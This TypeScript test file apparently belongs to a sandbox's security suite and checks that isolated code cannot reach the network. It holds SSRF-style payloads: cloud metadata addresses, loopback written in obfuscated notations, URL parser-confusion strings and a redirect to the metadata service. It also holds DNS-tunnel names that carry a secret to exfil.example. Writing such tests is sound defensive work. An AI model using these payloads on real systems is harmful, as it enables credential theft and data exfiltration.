/**
 * Attempts to reach the network that name what they want: hosts, addresses in every notation, names that carry something.
 *
 * Nothing here leaves the machine: what is refused is refused before a packet, and containers have no way out. Addresses
 * are those set aside for documentation, or of the machine itself.
 */
import { type Attack, type AttackCase, file, js, once, python } from '../case.ts';

/** The detail of a refusal by the list, which comes before any name is resolved. */
const NOT_LISTED = 'network_denied';

/** Asks for each URL in turn and answers with what each came to. */
const FETCHES = `const outcome = async (url, init) => {
  try { return (await fetch(url, init)).status; } catch (error) { return error.cause?.code ?? error.name; }
};`;

/** An isolate that asks for these, all of which are refused. */
const refusedByBroker = (urls: readonly string[], allow: readonly string[] = []): Attack => ({
  code: file(`${FETCHES}
exports.handler = async (event) => { const found = []; for (const url of event) found.push(await outcome(url)); return found; };`),
  ...(allow.length === 0 ? {} : { spec: { network: { allow } } }),
  calls: [
    {
      event: urls,
      expect: {
        ...{ code: 'succeeded', result: urls.map(() => NOT_LISTED) },
        network: { requests: urls.length, refused: urls.length, code: 'network_denied' },
      },
    },
  ],
});

/** Node's own sockets, told where to; answers with the error of each. */
const DIALS = `const net = require('net');
const dial = (host, port) => new Promise((done) => {
  const caller = net.connect({ host, port, timeout: 2000 });
  caller.on('connect', () => { caller.destroy(); done('connected'); });
  caller.on('timeout', () => { caller.destroy(); done('silent'); });
  caller.on('error', (error) => done(error.code ?? error.errors?.[0]?.code));
});`;

/** Each host on each port, with Node's sockets and Python's, which have to answer the same. */
const unreachable = (hosts: readonly string[], port: number): { nodejs24: Attack; python3: Attack } => {
  const event = { hosts, port };
  const expect = { code: 'succeeded', result: hosts.map(() => 'ENETUNREACH') } as const;
  return {
    nodejs24: {
      code: file(`${DIALS}
exports.handler = async ({ hosts, port }) => { const found = []; for (const host of hosts) found.push(await dial(host, port)); return found; };`),
      calls: [{ event, expect }],
    },
    python3: {
      code: python(`import socket
found = []
for host in event["hosts"]:
  with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as caller:
    caller.settimeout(2)
    try:
      caller.connect((host, event["port"]))
      found.append("connected")
    except OSError as failed:
      found.append(errno.errorcode.get(failed.errno, str(failed)))
return found`),
      calls: [{ event, expect }],
    },
  };
};

const OUTSIDE = ['192.0.2.1', '198.51.100.1', '203.0.113.1', '2001:db8::1'] as const;
const METADATA = [
  '169.254.169.254',
  '169.254.170.2',
  '168.63.129.16',
  '100.100.100.200',
  'fd00:ec2::254',
] as const;
const bracketed = (host: string): string => (host.includes(':') ? `[${host}]` : host);
const urlOf = (host: string): string => `http://${bracketed(host)}/`;

/** Loopback, metadata and private addresses as they are seldom written. */
const DISGUISES = [
  ...[
    '127.1',
    '2130706433',
    '0x7f000001',
    '0x7f.1',
    '0177.0.0.1',
    '017700000001',
    '127.0.0.1.',
    '%31%32%37.0.0.1',
  ],
  ...[
    '\uff11\uff12\uff17.0.0.1',
    '\u2460\u2461\u2466.\u24ea.0.1',
    '0',
    '0.0.0.0',
    '[::]',
    '[::1]',
    '[0:0:0:0:0:0:0:1]',
  ],
  ...['[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]'],
  ...[
    '2852039166',
    '0xa9fea9fe',
    '[::ffff:169.254.169.254]',
    '[::ffff:a9fe:a9fe]',
    '[fe80::1]',
    '[fd00:ec2::254]',
  ],
] as const;
/** The same as a container's own sockets take them. */
const MAPPED = [
  '::ffff:192.0.2.1',
  '::ffff:169.254.169.254',
  '64:ff9b::c000:201',
  '2002:c000:201::1',
] as const;

/** A label of a name holds 63 characters: this carries a secret out in a question, if anybody asks it. */
const TUNNEL = Array.from(
  { length: 20 },
  (_, at) => `${at.toString(16).padStart(2, '0')}${'5ec2e7'.repeat(9)}.exfil.example`,
);

const REDIRECTS = `const http = require('http');
exports.handler = async () => {
  const server = http.createServer((request, answer) => {
    answer.writeHead(302, { location: decodeURIComponent(request.url.slice(2)) });
    answer.end();
  }).listen(0, '127.0.0.1');
  await require('events').once(server, 'listening');
  const found = [];
  for (const to of ['http://169.254.169.254/latest/meta-data/', 'http://192.0.2.1/', 'http://[2001:db8::1]/'])
    found.push(await fetch('http://127.0.0.1:' + server.address().port + '/?' + encodeURIComponent(to)).then((r) => r.status, (e) => e.cause.code));
  server.close();
  return found;
};`;

export const NETWORK_REACH_CASES: readonly AttackCase[] = [
  {
    ...{ id: 95, group: 'network', name: 'a connection to somewhere outside', harmless: true },
    attacks: { isolate: refusedByBroker(OUTSIDE.map(urlOf)), ...unreachable(OUTSIDE, 443) },
  },
  {
    ...{ id: 96, group: 'network', name: 'the metadata services of clouds', harmless: true },
    attacks: { isolate: refusedByBroker(METADATA.map(urlOf)), ...unreachable(METADATA, 80) },
  },
  {
    ...{
      id: 390,
      group: 'network',
      name: 'the metadata services of clouds, where every host is allowed',
      harmless: true,
    },
    attacks: { isolate: refusedByBroker(METADATA.map(urlOf), ['*:*']) },
  },
  {
    ...{ id: 97, group: 'network', name: 'names that carry a secret to a name server', harmless: true },
    attacks: {
      isolate: refusedByBroker(TUNNEL.map(urlOf), ['api.example:443', '*.other.example:80']),
      nodejs24: {
        code: js(`const dns = require('dns/promises'); const dgram = require('dgram'); const found = new Set();
  const failed = (error) => { found.add(error.code); };
  for (const name of event.slice(0, 3)) {
    await dns.lookup(name).then(() => found.add('resolved'), failed);
    await new dns.Resolver({ timeout: 200, tries: 1 }).resolve4(name).then(() => found.add('resolved'), failed);
  }
  const socket = dgram.createSocket('udp4');
  await new Promise((done) => socket.send('question', 53, '192.0.2.53', (error) => { found.add(error ? error.code : 'sent'); done(); }));
  socket.close();
  return [...found].sort();`),
        calls: [
          {
            event: TUNNEL,
            expect: { code: 'succeeded', result: ['EAI_AGAIN', 'ECONNREFUSED', 'ENETUNREACH'] },
          },
        ],
      },
      python3: {
        code: python(`import socket
found = set()
for name in event[:3]:
  try:
    socket.getaddrinfo(name, 80)
    found.add("resolved")
  except socket.gaierror as failed:
    found.add(failed.errno)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
  try:
    sender.sendto(b"question", ("192.0.2.53", 53))
    found.add("sent")
  except OSError as failed:
    found.add(errno.errorcode[failed.errno])
return sorted(map(str, found))`),
        calls: [{ event: TUNNEL, expect: { code: 'succeeded', result: ['-3', 'ENETUNREACH'] } }],
      },
    },
  },
  {
    ...{
      id: 98,
      group: 'network',
      name: 'a way from a host that is reached to one that is not',
      harmless: true,
    },
    attacks: {
      // What names and redirects lead to needs a name server and an upstream: test/egress has them.
      isolate: refusedByBroker(
        [
          'http://127.0.0.1:7070/v1/pools',
          'http://10.0.0.1/',
          'http://192.168.0.1/',
          'http://172.17.0.1:2375/info',
        ],
        ['*:*'],
      ),
      nodejs24: {
        code: file(REDIRECTS),
        calls: once({ code: 'succeeded', result: ['ENETUNREACH', 'ENETUNREACH', 'ENETUNREACH'] }),
      },
    },
  },
  {
    ...{ id: 99, group: 'network', name: 'addresses in other notations', harmless: true },
    attacks: {
      isolate: refusedByBroker(
        DISGUISES.map((host) => `http://${host}/`),
        ['*:*'],
      ),
      ...unreachable(MAPPED, 80),
    },
  },
  {
    ...{
      id: 391,
      group: 'network',
      name: 'lists of allowed hosts that name what is refused to all',
      harmless: true,
    },
    attacks: {
      isolate: {
        code: js('return 1;'),
        spec: { network: { allow: ['127.0.0.1:7070'] } },
        calls: [],
        refused: {
          ...{ code: 'invalid_request' },
          detail: /^network\.allow: "127\.0\.0\.1:7070" names addresses that are refused here/,
        },
      },
    },
  },
  {
    ...{ id: 392, group: 'network', name: 'URLs whose host depends on who reads them', harmless: true },
    attacks: {
      isolate: {
        code: file(`${FETCHES}
exports.handler = async (event) => { const found = []; for (const url of event) found.push(await outcome(url)); return found; };`),
        spec: { network: { allow: ['api.example:80'] } },
        calls: [
          {
            event: [
              'http://api.example@127.0.0.1/',
              'http://api.example:80@127.0.0.1/',
              'http://127.0.0.1#@api.example/',
              'http://127.0.0.1\\@api.example/',
              'http://127.0.0.1?@api.example/',
              'http:127.0.0.1/@api.example',
              'http:////127.0.0.1//api.example',
              'ht\ntp://127.0.0.1/',
            ],
            expect: {
              code: 'succeeded',
              // Credentials are refused by fetch itself; all others are read as what they are: loopback.
              result: ['TypeError', 'TypeError', ...Array(6).fill(NOT_LISTED)],
              network: { requests: 6, refused: 6, code: 'network_denied' },
            },
          },
        ],
      },
    },
  },
];
